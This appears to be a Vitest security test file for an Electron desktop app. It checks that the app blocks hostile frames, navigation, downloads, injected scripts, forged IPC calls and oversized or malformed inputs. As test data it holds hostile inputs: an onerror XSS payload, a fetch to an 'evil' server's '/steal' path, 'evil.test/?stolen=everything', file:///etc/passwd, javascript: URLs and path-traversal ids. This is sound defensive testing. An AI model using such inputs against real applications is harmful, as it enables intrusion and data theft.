import { createServer } from 'node:http';
import { expect, it } from 'vitest';
import { openDesktop } from '#tests/desktop/support/shop.ts';
import { until } from '#tests/support/until.ts';
import { portOf } from './support/during-test.ts';

const visits: string[] = [];
const server = createServer((request, response) => {
  visits.push(request.url ?? '');
  response.setHeader('content-type', 'text/html');
  response.end('<script>document.title = typeof window.secondFret</script>');
});
const evil = { origin: `http://localhost:${await portOf(server)}`, visits };
const desktop = await openDesktop();

/** Checks that the page is still open and responds. Call this after every attack. */
async function expectAlive() {
  expect(desktop.windows).toHaveLength(1);
  // The stand-in for Electron can't prevent a rejected window from opening, so it closes the window afterward.
  await until(() => desktop.page.context().pages().length === 1, 'no window stays');
  expect(new URL(desktop.page.url()).pathname).toBe('/');
  expect(await desktop.page.evaluate(() => window.secondFret?.server?.current())).toMatch(/^http/);
}

it('loads no hostile page in a frame', async () => {
  await desktop.page.evaluate((src) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src, id: 'evil' }));
  }, `${evil.origin}/frame`);
  await until(() => desktop.log().includes('refused a frame') || blocked(), 'it is refused');
  expect(evil.visits).toEqual([]);
  await desktop.page.evaluate(() => document.getElementById('evil')?.remove());
  await expectAlive();
});

/** Returns whether the content security policy blocked a frame, possibly before our own guard could. */
async function blocked(): Promise<boolean> {
  return desktop.page.frames().some((frame) => frame.url().startsWith('chrome-error:'));
}

it('keeps the main frame from navigating away', async () => {
  for (const url of ['file:///etc/passwd', `${evil.origin}/main`, 'https://evil.test/?a=b']) {
    await desktop.page.evaluate((to) => {
      location.href = to;
    }, url);
  }
  const { questions } = desktop.shell;
  // If the test has just clicked Connect, the application asks the user about one address instead of refusing it.
  const refused = () => desktop.log().match(/refused an address/g)?.length ?? 0;
  await until(() => refused() + questions.length >= 2, 'all are refused or asked about');
  expect(desktop.opened).toEqual([]);
  expect(evil.visits).toEqual([]);
  await expectAlive();
});

it('shows the user the whole address after a click, before the system opens it', async () => {
  const { page, shell } = desktop;
  const address = 'https://evil.test/?stolen=everything';
  const press = async () => {
    await page.mouse.click(5, 400);
    await page.evaluate((to) => {
      location.href = to;
    }, address);
  };
  await until(async () => {
    await press();
    return shell.details.at(-1) === address;
  }, 'it asks once a second has passed');
  expect(shell.questions.at(-1)).toBe('Open evil.test in your browser?');
  expect(desktop.opened).toEqual([]);
  shell.answers.push('Open');
  await until(async () => {
    if (desktop.opened.length === 0) await press();
    return desktop.opened.length > 0;
  }, 'it opens once a second has passed');
  expect(desktop.opened).toEqual([address]);
  await expectAlive();
});

it('starts no download', async () => {
  await desktop.page.evaluate(() => {
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['x']));
    link.download = 'program.exe';
    link.click();
  });
  await until(() => desktop.downloads.denied > 0, 'Electron asks the main process');
  expect(desktop.downloads.started).toBe(0);
  await expectAlive();
});

it('runs only our own scripts', async () => {
  const ran = await desktop.page.evaluate(async (origin) => {
    const results: Record<string, boolean | string> = {};
    const script = document.createElement('script');
    script.append('window.inline = true');
    document.body.append(script);
    results.inline = 'inline' in window;
    const outcomeOf = (act: () => unknown) => {
      try {
        return String(act());
      } catch (error) {
        return (error as Error).name;
      }
    };
    results.markup = outcomeOf(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.inline = true">');
    });
    results.foreign = outcomeOf(() => {
      document.createElement('script').src = `${origin}/x.js`;
    });
    results.fetch = await fetch(`${origin}/steal`).then(
      () => true,
      () => false,
    );
    return results;
  }, evil.origin);
  const refused = 'TypeError';
  expect(ran).toEqual({ inline: false, markup: refused, foreign: refused, fetch: false });
  expect(evil.visits).toEqual([]);
  await expectAlive();
});

it('refuses a forged sender, an unknown channel and invalid arguments', async () => {
  const frame = { url: `${evil.origin}/`, parent: null, frameTreeNodeId: 1 };
  const forged = { sender: { id: 99, mainFrame: frame }, senderFrame: frame };
  await expect(desktop.invoke(forged, 'session.current')).rejects.toThrow('not from our page');
  await expect(desktop.invoke(forged, 'shell.run', 'rm')).rejects.toThrow('No handler');
  const answers = await desktop.page.evaluate(async () => {
    const { secondFret } = window;
    const tell = (error: Error) => error.message;
    const anything = secondFret as never as Record<string, (given: unknown) => Promise<unknown>>;
    return Promise.all([
      secondFret?.openExternal('file:///etc/passwd').catch(tell),
      secondFret?.openExternal('javascript:alert(1)').catch(tell),
      anything.openExternal?.({ toString: 'https://evil.test' }).catch(tell),
      secondFret?.session.signIn({} as never).catch(tell),
      secondFret?.server?.choose('x'.repeat(5_000_000)).catch(tell),
      secondFret?.pickImages?.(1_000).catch(tell),
      secondFret?.inbox?.dismiss(['/etc/passwd']).catch(tell),
      secondFret?.notify?.notice({ id: '../..', title: 'x'.repeat(401), text: 'y' }).catch(tell),
      secondFret?.notify?.openBookings(-1).catch(tell),
    ]);
  });
  expect(answers.map(String)).toEqual([
    expect.stringContaining('external.open: failed'),
    expect.stringContaining('external.open: failed'),
    expect.stringContaining('external.open: wrong shape'),
    expect.stringContaining('session.signIn: wrong shape'),
    expect.stringContaining('server.choose: wrong shape'),
    expect.stringContaining('images.pick: wrong shape'),
    expect.stringContaining('inbox.dismiss: wrong shape'),
    expect.stringContaining('notify.notice: wrong shape (id, title)'),
    expect.stringContaining('notify.openBookings: wrong shape'),
  ]);
  expect(desktop.shell.notifications).toEqual([]);
  expect(desktop.opened.every((url) => url.startsWith('https:'))).toBe(true);
  await expectAlive();
});

const id = '0198c0de-0000-7000-8000-00000000000a';
it('follows no other link, and logs only its length', async () => {
  const link = `secondfret://product/${id}/${'eyJhbGciOi.secret/'.repeat(6_000)}`;
  const before = desktop.log().length;
  desktop.app.emit('second-instance', {}, ['second-fret', link]);
  desktop.app.emit('open-url', { preventDefault: () => undefined }, link);
  const said = desktop.log().slice(before);
  expect(said.match(/refused a link/g)).toHaveLength(2);
  expect(said).toContain(`"length":${link.length}`);
  expect(said).not.toMatch(/secret|eyJ|0198c0de/);
  // There is no pending command, and the page has not navigated.
  const waiting = await desktop.page.evaluate(() => window.secondFret?.commands?.take());
  expect(waiting).toEqual([]);
  await expectAlive();
});

it('follows no link that a page opens', async () => {
  await desktop.page.evaluate((to) => {
    location.href = to;
    window.open(to);
  }, `secondfret://product/${id}`);
  await until(() => desktop.log().includes('refused an address'), 'it is refused');
  expect(desktop.opened.every((url) => url.startsWith('https:'))).toBe(true);
  await expectAlive();
});
